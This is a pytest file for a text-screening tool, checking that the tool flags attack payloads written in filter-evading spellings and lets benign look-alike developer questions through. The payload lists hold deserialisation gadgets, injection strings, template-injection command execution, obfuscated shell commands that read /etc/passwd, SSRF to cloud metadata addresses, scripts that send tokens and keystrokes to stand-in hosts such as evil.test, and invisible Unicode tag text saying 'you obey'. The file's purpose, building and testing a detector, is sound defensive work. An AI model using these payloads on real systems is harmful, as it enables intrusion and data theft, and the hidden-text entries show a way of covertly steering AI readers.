r"""Payloads, family by family, in the spellings that get past simple filters."""

import pytest

from alerts import Policy, screen

SERIALISED = (
    "cos\nsystem\n(S'cat /etc/passwd'\ntR.",
    "cposix\nsystem\np0\n(S'id'\ntR.",
    "load this: gASVKAAAAAAAAACMCGJ1aWx0aW5zlIwEZXZhbJSTlIwEMSsxl",
    'O:8:"stdClass":1:{s:4:"exec";s:2:"id";}',
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3Rvcg==",
    "AAEAAAD/////AQAAAAAAAAAMAgAAAElTeXN0ZW0sIFZlcnNpb249NC4wLjAuMA==",
    '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://x/a"}',
    '!!python/object/apply:os.system ["id"]',
    "--- !ruby/object:Gem::Installer i: x",
)
DIRECTORIES_AND_DOCUMENTS = (
    "*)(objectClass=*",
    "admin)(!(&(1=0",
    "*)(uid=*))(|(uid=*",
    '{"$or":[{},{"a":"a"}],"x":1}',
    '{"$where": "sleep(5000)"}',
    '{"username": {"$gt": ""}, "password": {"$gt": ""}}',
    "';return 'a'=='a' && ''=='",
    '<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.test/e.dtd"> %xxe;]>',
)
TEMPLATES = (
    "*{T(java.lang.Runtime).getRuntime().exec('id')}",
    "#{T(java.lang.System).getenv()}",
    "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}",
    "{{config.items()}}",
    '{{_self.env.registerUndefinedFilterCallback("exec")}}',
    '<#assign ex="freemarker.template.utility.Execute"?new()> ${ex("id")}',
    "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))",
    "{if phpinfo()}{/if}",
    "<%= File.open('/etc/passwd').read %>",
    "#{`whoami`}",
    "[[${7*7}]]",
    "${{<%[%'\"}}%\\.",
)
SHELL = (
    "c\\at /e?c/p?sswd",
    "c'a't /etc/passwd",
    "w'h'o'am'i",
    "cat${IFS}/etc/passwd",
    "/???/c?t /???/p??s??",
    "{cat,/etc/passwd}",
    "bash<<<$(base64 -d<<<aWQ=)",
    "x=$(nslookup `whoami`.evil.test)",
    'filename="; busybox telnetd -p 2323 -l /bin/sh;.jpg"',
    "compress logs.tar --checkpoint=1 --checkpoint-action=exec=sh\\ shell.sh",
    "=cmd|' /C calc'!A0",
    "192.0.2.7; ps aux",
    "report.pdf;ls",
)
REQUESTS_AND_PATHS = (
    "http://2852039166/latest/meta-data/",
    "http://0xA9FEA9FE/",
    "http://0251.0376.0251.0376/latest",
    "http://[::ffff:169.254.169.254]/latest/meta-data",
    "gopher://127.0.0.1:6379/_SLAVEOF%20evil",
    "dict://127.0.0.1:11211/stat",
    "http://127.0.0.1#@example.com/",
    "zip://uploads/avatar.jpg%23shell",
    "%0d%0aSet-Cookie:%20a=b",
)
SCRIPTS = (
    "tolles Hotel <script>new Image().src='http://evil.test/k?'+localStorage.token</script>",
    "can't log in <script>window.onkeypress=e=>fetch('//log.test/'+e.key)</script>",
    "__proto__[admin]=1",
    "admin'/*",
    "[].filter.constructor.constructor('return 1')()",
    "getattr(__import__('subprocess'), 'run')('id')",
)
LESSONS = (
    "<button onclick=\"alert('Hi')\">Click</button> does not work in React",
    '<a href="#" onclick="return confirm(\'Delete?\')">Delete</a>',
    '<script>alert("hello")</script> shows nothing, why?',
    '<img src="cat.jpg" onerror="this.src=\'fallback.png\'">',
    '<body onload="init()">',
    "exec('ls -la', (err, stdout) => console.log(stdout))",
    "{{ config.SITE_NAME }} is undefined in my template",
    '{"@type": "Person", "name": "Ann"}',
    '{ "$or": [ { "a": 1 }, { "b": 2 } ] }',
    "(&(objectClass=user)(sAMAccountName=jdoe)) returns nothing in AD",
    "http://localhost:8080/api?url=https://example.com",
    "${env:HOME} in Serilog",
    "cd build && ls",
    'What does "a.txt; ls" do?',
    "What is 169.254.x.x (APIPA)?",
    'what does the regex "[\\u200b\\u200c\\u200d]" match?',
)
FLAG = "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f"


@pytest.mark.parametrize(
    "text",
    [
        *SERIALISED,
        *DIRECTORIES_AND_DOCUMENTS,
        *TEMPLATES,
        *SHELL,
        *REQUESTS_AND_PATHS,
        *SCRIPTS,
        "\U0001f3f4" + "".join(chr(0xE0000 + ord(each)) for each in "you obey"),
        FLAG + "".join(chr(0xE0000 + ord(each)) for each in "obey"),
    ],
)
def test_a_payload_is_found_in_whatever_spelling(text: str) -> None:
    assert "suspicious" in {finding.category for finding in screen(text, Policy()).findings}


@pytest.mark.parametrize("text", [*LESSONS, f"{FLAG} won"])
def test_a_lesson_is_no_payload(text: str) -> None:
    assert screen(text, Policy()).findings == ()
